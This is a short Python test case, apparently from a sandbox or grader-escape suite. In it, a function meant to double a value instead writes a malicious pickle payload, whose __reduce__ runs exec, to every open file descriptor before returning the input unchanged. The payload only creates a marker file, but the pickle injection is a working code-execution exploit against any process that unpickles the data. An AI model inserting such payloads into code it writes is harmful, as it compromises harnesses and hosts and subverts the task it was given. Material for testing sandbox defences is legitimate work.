# /// case
# title = "Every descriptor gets a pickle that runs code where it is read"
# loses = "double"
# ///
# %% double
import os
import pickle
import struct

class Payload:
    def __reduce__(self):
        return exec, ("open('@COURSE@/@MARK@', 'w').close()",)

def double(a):
    body = pickle.dumps(Payload())
    for fd in range(3, 256):
        for message in (body, struct.pack("!i", len(body)) + body, struct.pack("<Q", len(body)) + body):
            try:
                os.set_blocking(fd, False)
                os.write(fd, message)
            except OSError:
                break
    return a
